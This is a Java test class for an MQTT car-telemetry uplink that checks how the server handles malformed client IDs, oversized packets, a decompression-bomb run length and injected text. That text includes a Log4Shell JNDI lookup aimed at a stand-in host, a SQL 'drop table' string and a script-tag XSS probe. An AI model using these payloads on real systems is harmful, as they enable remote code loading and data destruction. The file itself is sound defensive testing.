package io.sillage.uplink;

import static org.assertj.core.api.Assertions.assertThat;

import io.sillage.uplink.LinkBench.Workshop;
import io.sillage.wire.CarState;
import io.sillage.wire.ChunkCodec;
import io.sillage.wire.ReceiptCodec;
import io.sillage.wire.StateCodec;
import io.sillage.wire.v1.TripChunk;
import java.io.EOFException;
import java.io.IOException;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/** Names, texts, counts and moments that no honest car uses (A25, A27, F06). */
@LinkTest
class HostileNamesTests {

    private static final int USER_PROPERTY = 0x26;

    @Autowired
    Workshop workshop;

    @Autowired
    FakeUplink uplink;

    @Autowired
    LastStates states;

    @Test
    void aClientIdIsTheDeviceOfTheCertificateOrNothing() throws Exception {
        var keys = workshop.newCar();
        var device = keys.device().toString();
        for (var id : List.of(
                device + "\0", "\0", device + "/#", "+", "$SYS", "CN=" + device, device + " ", "x".repeat(65_535))) {
            try (var car = keys.dial(workshop.address().mqttPort(), true)) {
                assertThat(car.connectAs(id, null, null).reason()).as(id).isGreaterThanOrEqualTo(0x80);
            } catch (IOException ended) {
                // no less of a refusal
            }
            keys = workshop.newCar();
        }
    }

    @Test
    void propertiesBeyondAllMeasureEndTheConnection() throws Exception {
        var neighbour = workshop.newCar();
        try (var heard = workshop.connected(neighbour)) {
            var keys = workshop.newCar();
            try (var car = workshop.connected(keys)) {
                var announced =
                        new Packet.Body().text(keys.topic(CarTopic.TRIP)).two(1).length(200_000_000);
                car.send(new Packet(
                                Packet.PUBLISH, 2, announced.raw(new byte[64]).bytes())
                        .bytes());
                car.end();
            }
            assertThat(connectWith(new Packet.Body().length(200_000_000))).isFalse();
            assertThat(connectWith(
                            new Packet.Body().length(LinkPorts.MAX_PACKET).raw(manyProperties())))
                    .isFalse();
            assertThat(heard.isAlive()).isTrue();
        }
    }

    private boolean connectWith(Packet.Body properties) throws IOException {
        var keys = workshop.newCar();
        var body = new Packet.Body().text("MQTT").one(5).one(2).two(60).raw(properties.bytes());
        try (var car = keys.dial(workshop.address().mqttPort(), true)) {
            car.send(new Packet(
                            Packet.CONNECT,
                            0,
                            body.text(keys.device().toString()).bytes())
                    .bytes());
            return car.next().reason() == 0;
        } catch (IOException ended) {
            return false;
        }
    }

    private static byte[] manyProperties() {
        var properties = new Packet.Body();
        for (int i = 0; i < LinkPorts.MAX_PACKET / 9; i++) {
            properties.one(USER_PROPERTY).text("ab").text("cd");
        }
        return properties.bytes();
    }

    @Test
    void aRunThatUnpacksToMoreThanAChunkHoldsIsRefused() throws Exception {
        var chunk = TripChunk.parseFrom(ChunkCodec.encode(Chunks.any())).toBuilder();
        chunk.getSamplesBuilder().getEngineRpmBuilder().addDelta(1).addRuns(1).addRuns(2_000_000_000);
        var keys = workshop.newCar();
        try (var car = workshop.connected(keys)) {
            car.subscribe(keys.topic(CarTopic.RECEIPT));
            car.publish(keys.topic(CarTopic.TRIP), chunk.build().toByteArray());
            assertThat(car.next(Packet.PUBACK).reason()).isEqualTo(0x99);
            var receipt = ReceiptCodec.decode(car.next(Packet.PUBLISH).payload(true), null);
            assertThat(receipt.refused())
                    .singleElement()
                    .satisfies(refused -> assertThat(refused.reason())
                            .contains("engine_rpm has a run of 2000000000", "; expected runs that cover 10 samples"));
        }
    }

    @Test
    void textThatIsCodeIsRefusedOrKeptAsText() throws Exception {
        var code = List.of("${jndi:ldap://example.org/a}", "'); drop table trip.trip; --", "<script>alert(1)</script>");
        var keys = workshop.newCar();
        try (var car = workshop.connected(keys)) {
            car.publish(keys.topic(CarTopic.STATE), StateCodec.encode(state(code)));
            assertThat(car.next(Packet.PUBACK).reason()).isZero();
            assertThat(states.of(keys.car()).warningLamps()).containsExactlyElementsOf(code);
            car.publish(keys.topic(CarTopic.STATE), StateCodec.encode(state(List.of("line\r\nbreak"))));
            assertThat(car.next(Packet.PUBACK).reason()).isEqualTo(0x99);
        }
    }

    private static CarState state(List<String> lamps) {
        return new CarState(
                UUID.randomUUID(),
                1,
                Chunks.START,
                null,
                null,
                null,
                null,
                lamps,
                List.of(),
                List.of(),
                null,
                null,
                null,
                null,
                List.of());
    }

    @Test
    void whatIsSentRightBehindConnectIsStoredOrNotAcknowledged() throws Exception {
        for (int i = 0; i < 50; i++) {
            var keys = workshop.newCar();
            var chunk = Chunks.any();
            try (var car = keys.dial(workshop.address().mqttPort(), true)) {
                car.send(RawCar.connect(true, keys.device().toString(), null, null));
                if (i % 2 == 0) {
                    car.next(Packet.CONNACK);
                }
                car.publish(keys.topic(CarTopic.TRIP), ChunkCodec.encode(chunk));
                if (car.next(Packet.PUBACK).reason() == 0) {
                    assertThat(uplink.has(chunk.id())).isTrue();
                }
            } catch (EOFException ended) {
                assertThat(i % 2)
                        .as("only what comes before CONNACK may be left out")
                        .isOne();
            }
        }
    }
}
